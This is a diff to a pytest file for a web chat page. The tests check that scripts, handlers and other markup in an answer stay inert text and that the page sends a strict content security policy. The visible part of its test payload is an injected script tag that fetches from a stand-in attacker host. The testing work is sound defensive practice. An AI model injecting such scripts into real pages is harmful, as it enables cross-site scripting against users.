@@ -45,11 +45,11 @@ ATTACKS = """<script>pwned = 1; fetch('https://evil.example/s')</script>
 
 @pytest.mark.parametrize("size", [1, 10_000])
 async def test_markup_in_an_answer_does_nothing(visiting: Visiting, size: int) -> None:
-    """Scripts, handlers, images, styles and forms stay text, however the answer is cut into pieces; links are plain."""
+    """Scripts, handlers, images, styles and forms stay text, for any cut of the answer. Links are plain."""
     pieces = [ATTACKS[start : start + size] for start in range(0, len(ATTACKS), size)]
     async with visiting([*map(Text, pieces), DONE]) as visit:
         await visit.ask("attack")
-        await visit.answered()
+        await visit.wait_for_answer()
         await visit.page.locator(".answer .body").last.hover()
 
         answer = visit.page.locator(".answer .body").last
@@ -83,7 +83,7 @@ async def test_markup_in_an_answer_does_nothing(visiting: Visiting, size: int) -
 
 
 async def test_the_page_runs_under_a_strict_policy(visiting: Visiting) -> None:
-    """Neither inline script nor markup from a plain string gets through, should anything ever try."""
+    """The browser blocks inline scripts, and markup from a plain string."""
     async with visiting([DONE]) as visit:
         blocked = await visit.page.evaluate(
             """() => {
@@ -92,7 +92,7 @@ async def test_the_page_runs_under_a_strict_policy(visiting: Visiting) -> None:
             }"""
         )
         policy = (await visit.page.request.get(f"{visit.origin}/static/index.html")).headers["content-security-policy"]
-        visit.problems.clear()  # the attempt above is logged, as it should be
+        visit.problems.clear()  # the browser logs the attempt above
 
         assert blocked
         directives = {name: rest for name, _, rest in (part.strip().partition(" ") for part in policy.split(";"))}
